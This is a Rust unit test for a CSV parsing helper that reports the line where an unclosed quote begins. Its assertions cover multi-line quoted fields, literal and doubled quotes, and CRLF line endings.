fn unclosed_quote_scan_follows_the_csv_rules() {
    assert_eq!(
        unclosed_quote("a,b\n\"c\nd\",e\n"),
        None,
        "closed across lines"
    );
    assert_eq!(
        unclosed_quote("a,b\"c\n"),
        None,
        "a quote inside a value is literal"
    );
    assert_eq!(
        unclosed_quote("a,\"b \"\"c\"\" d\"\n"),
        None,
        "doubled quotes are quotes"
    );
    assert_eq!(
        unclosed_quote("a\nb\n\"c,d\ne\n"),
        Some(3),
        "opened on line 3"
    );
    assert_eq!(
        unclosed_quote("a\r\n\"b\r\n"),
        Some(2),
        "CRLF lines count once"
    );
}
